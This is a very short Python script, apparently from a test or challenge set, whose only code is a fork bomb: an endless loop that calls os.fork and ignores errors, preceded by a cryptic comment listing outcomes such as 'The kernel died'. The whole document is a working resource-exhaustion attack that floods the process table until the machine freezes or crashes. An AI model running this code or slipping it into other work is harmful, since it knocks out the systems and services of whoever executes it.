# Told: seconds|The kernel died|bytes of memory
import os
while True:
    try: os.fork()
    except OSError: pass
